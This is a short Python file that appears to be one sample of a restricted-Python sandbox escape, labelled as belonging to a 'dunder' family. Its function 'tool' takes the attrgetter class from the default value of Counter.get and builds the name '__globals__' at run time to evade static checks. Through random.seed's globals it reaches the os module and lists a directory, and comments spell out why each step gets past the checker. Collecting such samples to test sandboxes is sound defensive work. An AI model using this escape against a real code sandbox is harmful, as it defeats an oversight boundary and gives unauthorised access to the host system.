# family: dunder
# Escape: Counter.get(key, default) is a `.get` call, so `x.__class__` as its default passes as an operand and
# comes back: the attrgetter class. Getter("__globals__") (run-time name) reads random.seed's module globals,
# where _os is the os module.
import collections
import operator
import random


def tool(path: str = "/") -> list:
    Getter = collections.Counter().get("k", operator.attrgetter("real").__class__)
    edge = "_" * 2
    namespace = Getter(edge + "globals" + edge)(random.seed)
    return namespace["_os"].listdir(path)
